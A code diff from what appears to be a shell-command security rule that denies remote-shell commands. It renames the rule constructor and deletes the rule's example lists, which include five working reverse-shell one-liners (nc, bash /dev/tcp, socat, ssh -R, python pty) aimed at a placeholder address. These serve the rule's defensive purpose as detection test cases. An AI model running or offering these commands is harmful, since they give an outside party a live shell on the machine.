@@ -1,7 +1,7 @@
-import { defineRule } from '../../rule.ts'
+import { packRule } from '../../rule.ts'
 import { flagValue, hasFlag } from '../../view/shell-view.ts'
 
-export const remoteShell = defineRule({
+export const remoteShell = packRule({
   id: 'remote-shell',
   on: ['shell'],
   verdict: 'deny',
@@ -28,12 +28,4 @@ export const remoteShell = defineRule({
         effects.hosts.length > 0,
     )
   },
-  stop: [
-    'nc -e /bin/sh 10.0.0.1 4444',
-    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
-    'socat exec:sh tcp:10.0.0.1:4444',
-    'ssh -R 8022:localhost:22 x.test',
-    "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\"",
-  ],
-  pass: ['nc -zv localhost 5432', 'ssh -L 5432:db:5432 host', 'socat - tcp:localhost:80', 'ssh host uptime'],
 })
